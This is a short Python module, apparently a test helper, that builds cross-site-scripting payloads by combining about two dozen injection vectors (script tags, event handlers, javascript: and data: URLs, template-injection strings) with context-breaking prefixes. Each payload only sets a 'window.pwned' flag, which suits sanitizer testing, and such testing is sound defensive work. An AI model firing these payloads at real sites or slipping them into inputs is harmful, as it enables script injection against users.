"""Names that want to be programs: markup, handlers, addresses, and every way to hide them."""

from collections.abc import Iterator
from itertools import islice, product

_DO = "window.pwned=1"

_PLAIN = (
    "<script>{do}</script>",
    "<img src=x onerror={do}>",
    "<svg onload={do}>",
    "<svg><animate onbegin={do} attributeName=x dur=1s>",
    "<body onload={do}>",
    "<iframe src=javascript:{do}>",
    "<iframe srcdoc='<script>parent.{do}</script>'>",
    "<a href=javascript:{do} autofocus>x</a>",
    "<input autofocus onfocus={do}>",
    "<details open ontoggle={do}>",
    "<video src=x onerror={do}></video>",
    "<audio src=x onerror={do}>",
    "<object data=javascript:{do}>",
    "<embed src=javascript:{do}>",
    "<math><mtext></table><img src=x onerror={do}>",
    "<form action=javascript:{do}><button autofocus>x",
    "<link rel=stylesheet href=javascript:{do}>",
    "<style>@import 'javascript:{do}'</style>",
    "<base href=javascript:{do}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{do}'>",
    "<template><script>{do}</script></template>",
    "javascript:{do}",
    "data:text/html,<script>{do}</script>",
    "{{constructor.constructor('{do}')()}}",
    "${{{do}}}",
    "{{@html '<img src=x onerror={do}>'}}",
)
_HIDDEN = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea></style>{}",
    "--!>{}",
    "Zawodnik <b>1</b> {}",
)


def payloads(most: int) -> list[str]:
    """This many, each different, every kind before any is repeated in another disguise."""
    return list(islice(_all(), most))


def _all() -> Iterator[str]:
    for around, inside in product(_HIDDEN, _PLAIN):
        yield around.format(inside.format(do=_DO))
